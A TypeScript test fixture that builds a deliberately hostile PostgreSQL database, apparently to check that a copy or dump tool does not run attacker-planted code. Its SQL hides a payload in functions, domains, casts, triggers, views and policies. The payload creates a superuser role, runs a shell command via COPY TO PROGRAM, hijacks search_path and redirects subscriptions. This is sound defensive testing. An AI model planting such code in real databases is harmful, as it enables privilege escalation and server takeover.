import { join } from 'node:path';
import type { Postgres } from '../../../fixtures/postgres.ts';

export interface CanaryLine {
  readonly place: string;
  readonly superuser: boolean;
}

/** What the canary wrote to the log of a server: where it ran, and whether it had the rights of a superuser. */
export function canaryOf(log: string): readonly CanaryLine[] {
  return [...log.matchAll(/LOG: {2}canary in ([a-z ]+), superuser (t|f)$/gm)].map(([, place = '', superuser]) => ({
    place,
    superuser: superuser === 't',
  }));
}

/** Where it must have run on the target, so that the test proves something. */
export const canaryPlaces = {
  continuous: ['check', 'domain', 'generated', 'index', 'predicate', 'trigger', 'view'],
  dump: ['check', 'domain', 'generated', 'index', 'predicate', 'view'],
} as const;

/**
 * Statements of a database whose every expression is an attack on the server that it is copied to. On that server the canary
 * reports itself, tries to return to the role of the session, and as a superuser creates a role and writes a file.
 */
export async function hostileDatabase(victim: Postgres): Promise<readonly string[]> {
  const [system] = await victim.query('SELECT system_identifier::text AS id FROM pg_control_system()');
  const file = join(victim.folder, 'canary');
  return [
    'CREATE SCHEMA evil',
    `CREATE FUNCTION evil.act(place text) RETURNS boolean LANGUAGE plpgsql AS $body$
     DECLARE name text;
     BEGIN
       IF (SELECT system_identifier FROM pg_catalog.pg_control_system()) <> ${system?.id} THEN RETURN true; END IF;
       BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
       RAISE LOG 'canary in %, superuser %', place,
         (SELECT bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname IN (current_user, session_user));
       BEGIN EXECUTE 'CREATE ROLE canary SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE $$COPY (SELECT 'x') TO PROGRAM 'cat > ${file}'$$; EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog', pg_catalog.current_database());
       EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE pg_catalog.format('GRANT ALL ON DATABASE %I TO PUBLIC; REVOKE ALL ON DATABASE %1$I FROM reader CASCADE',
         pg_catalog.current_database());
       EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE pg_catalog.format('GRANT ALL ON DATABASE %I TO "Re lay" WITH GRANT OPTION', pg_catalog.current_database());
       EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN EXECUTE 'GRANT ALL ON SCHEMA public TO PUBLIC'; EXCEPTION WHEN OTHERS THEN NULL; END;
       -- The server would connect to itself as the user of the operating system, which its socket trusts.
       FOR name IN SELECT subname FROM pg_catalog.pg_subscription LOOP
         BEGIN
           EXECUTE pg_catalog.format('ALTER SUBSCRIPTION %I CONNECTION %L', name,
             'host=${victim.folder} user=postgres dbname=shop application_name=evil port='
               || pg_catalog.current_setting('port'));
         EXCEPTION WHEN OTHERS THEN NULL; END;
       END LOOP;
       RETURN true;
     END $body$`,
    // A function that is not volatile may execute nothing itself, but call one that does.
    `CREATE FUNCTION evil.canary(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $body$
     BEGIN RETURN evil.act(place); END $body$`,
    // Names that a session without a pinned search_path would find first.
    `CREATE FUNCTION evil.set_config(text, text, boolean) RETURNS text LANGUAGE plpgsql AS $$
     BEGIN PERFORM evil.canary('search path'); RETURN pg_catalog.set_config($1, $2, $3); END $$`,
    `CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$
     BEGIN PERFORM evil.canary('search path'); RETURN pg_catalog.current_setting($1); END $$`,
    `CREATE FUNCTION evil.pg_backend_pid() RETURNS int LANGUAGE plpgsql AS $$
     BEGIN PERFORM evil.canary('search path'); RETURN pg_catalog.pg_backend_pid(); END $$`,
    `CREATE DOMAIN email AS text CHECK (evil.canary('domain'))`,
    "CREATE TYPE colour AS ENUM ('red')",
    `CREATE FUNCTION evil.to_colour(int) RETURNS colour LANGUAGE sql IMMUTABLE AS $$
     SELECT CASE WHEN evil.canary('cast') THEN 'red'::public.colour END $$`,
    'CREATE CAST (int AS colour) WITH FUNCTION evil.to_colour(int) AS IMPLICIT',
    `CREATE TABLE goods (
       id int PRIMARY KEY,
       email email DEFAULT CASE WHEN evil.canary('default') THEN current_user::text END,
       shade colour DEFAULT 1,
       made text GENERATED ALWAYS AS (CASE WHEN evil.canary('generated') THEN 'x' END) STORED,
       CHECK (evil.canary('check')))`,
    `CREATE FUNCTION evil.place(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
     BEGIN PERFORM evil.canary('index'); RETURN $1; END $$`,
    'CREATE INDEX ON goods (evil.place(id))',
    `CREATE INDEX ON goods (id) WHERE evil.canary('predicate')`,
    `CREATE STATISTICS goods_statistics ON (evil.place(id)), email FROM goods`,
    `CREATE FUNCTION evil.fire() RETURNS trigger LANGUAGE plpgsql AS $$
     BEGIN PERFORM evil.canary('trigger'); RETURN NEW; END $$`,
    'CREATE TRIGGER always BEFORE INSERT ON goods FOR EACH ROW EXECUTE FUNCTION evil.fire()',
    'ALTER TABLE goods ENABLE ALWAYS TRIGGER always',
    `CREATE FUNCTION evil.definer() RETURNS boolean LANGUAGE sql SECURITY DEFINER AS $$ SELECT evil.canary('definer') $$`,
    'CREATE TRIGGER replica AFTER INSERT ON goods FOR EACH ROW EXECUTE FUNCTION evil.fire()',
    'ALTER TABLE goods ENABLE REPLICA TRIGGER replica',
    `CREATE RULE also AS ON INSERT TO goods WHERE evil.canary('rule') DO ALSO NOTHING`,
    `CREATE VIEW shown AS SELECT id, evil.canary('plain view') FROM goods`,
    `CREATE MATERIALIZED VIEW counted AS SELECT count(*) AS n, evil.canary('view') AS c FROM goods`,
    'CREATE TABLE guarded (id int PRIMARY KEY)',
    'ALTER TABLE guarded ENABLE ROW LEVEL SECURITY',
    'ALTER TABLE guarded FORCE ROW LEVEL SECURITY',
    `CREATE POLICY watched ON guarded USING (evil.canary('policy')) WITH CHECK (evil.canary('policy'))`,
    'INSERT INTO guarded VALUES (1)',
    `CREATE TABLE parts (id int, region text) PARTITION BY LIST (region)`,
    `CREATE TABLE parts_one PARTITION OF parts FOR VALUES IN ('one')`,
    `INSERT INTO goods (id, email) SELECT n, 'a@b' FROM generate_series(1, 3) n`,
    'CREATE PUBLICATION mine FOR TABLE goods',
    'REFRESH MATERIALIZED VIEW counted',
  ];
}
